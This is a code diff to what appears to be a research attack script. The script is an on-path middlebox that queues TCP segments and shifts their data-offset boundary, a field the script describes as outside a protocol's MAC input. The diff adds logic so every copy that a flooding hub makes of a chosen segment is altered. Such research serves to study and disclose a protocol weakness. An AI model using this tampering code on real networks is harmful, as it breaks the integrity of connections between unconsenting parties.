@@ -34,6 +34,7 @@ SOURCE = "issue 12 item 5 (the data offset outside the v1 MAC input)"
 SHIFT_AFTER = 1.2  # s after the first queued segment
 SHIFTS = 3
 SHIFT_GAP = 0.3
+CLONE_WINDOW = 0.005  # s: the copies of one flooded frame (see middlebox)
 WORD = 4  # the data offset counts 32-bit words
 
 
@@ -66,23 +67,33 @@ def shift_boundary(packet: bytes) -> tuple[bytes, str] | None:
 def middlebox(args) -> dict:
     from mptcrypt.attacks.downgrade import run_queue
 
-    stats = {"role": "middlebox", "queued": 0, "shifted": 0, "directions": {}, "shifted_seqs": []}
+    stats = {"role": "middlebox", "queued": 0, "shifted": 0, "copies_shifted": 0, "directions": {},
+             "shifted_seqs": []}
     state = {"first": None, "last": 0.0}
+    chosen: dict[int, float] = {}  # seq -> when it was chosen
 
     def on_packet(pkt) -> None:
+        # The hub floods: the bridge runs FORWARD once per output port, so every segment is queued twice (to the
+        # server, to the attacker). A chosen segment is shifted in every copy that comes within CLONE_WINDOW;
+        # the sender's retransmission of it, later, passes untouched.
         now = time.monotonic()
         stats["queued"] += 1
         state["first"] = state["first"] or now
-        if stats["shifted"] < SHIFTS and now - state["first"] >= SHIFT_AFTER and now - state["last"] >= SHIFT_GAP:
-            data = pkt.get_payload()
+        data = pkt.get_payload()
+        seq = int.from_bytes(data[24:28], "big")  # IPv4 without options (hijack.py)
+        fresh = seq not in chosen and stats["shifted"] < SHIFTS and now - state["first"] >= SHIFT_AFTER \
+            and now - state["last"] >= SHIFT_GAP
+        if fresh or now - chosen.get(seq, -1.0) <= CLONE_WINDOW:
             out = shift_boundary(data)
             if out is not None:
                 new, how = out
                 pkt.set_payload(new)
-                stats["shifted"] += 1
-                stats["directions"][how] = stats["directions"].get(how, 0) + 1
-                stats["shifted_seqs"].append(int.from_bytes(data[24:28], "big"))  # IPv4 without options
-                state["last"] = now
+                stats["copies_shifted"] += 1
+                if fresh:
+                    chosen[seq] = state["last"] = now
+                    stats["shifted"] += 1
+                    stats["directions"][how] = stats["directions"].get(how, 0) + 1
+                    stats["shifted_seqs"].append(seq)
         pkt.accept()
 
     return run_queue(args.queue_num, on_packet, stats)
